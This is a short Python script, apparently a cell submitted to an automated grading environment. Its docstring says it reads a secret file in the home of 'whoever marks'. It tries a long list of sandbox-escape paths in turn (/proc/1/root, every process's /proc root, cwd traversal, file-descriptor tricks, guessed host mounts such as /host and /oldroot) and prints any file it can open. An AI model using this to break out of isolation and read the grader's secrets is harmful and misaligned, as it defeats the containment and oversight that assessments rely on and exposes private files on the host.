"""Reads a file in the home of whoever marks, by its full name and by every way round."""

# %% extra
import os

ways = ["@SECRET@", "/proc/1/root@SECRET@", "/proc/self/root@SECRET@", "/proc/self/cwd/../../../..@SECRET@"]
ways += [f"/proc/{each}/root@SECRET@" for each in os.listdir("/proc") if each.isdigit()]
ways += [f"/proc/self/fd/{each}/..@SECRET@" for each in range(12)]
ways += ["/mnt@SECRET@", "/oldroot@SECRET@", "/.old@SECRET@", "/run@SECRET@", "/host@SECRET@", "/old_root@SECRET@"]
for way in ways:
    try:
        print(open(way).read())
    except OSError:
        pass
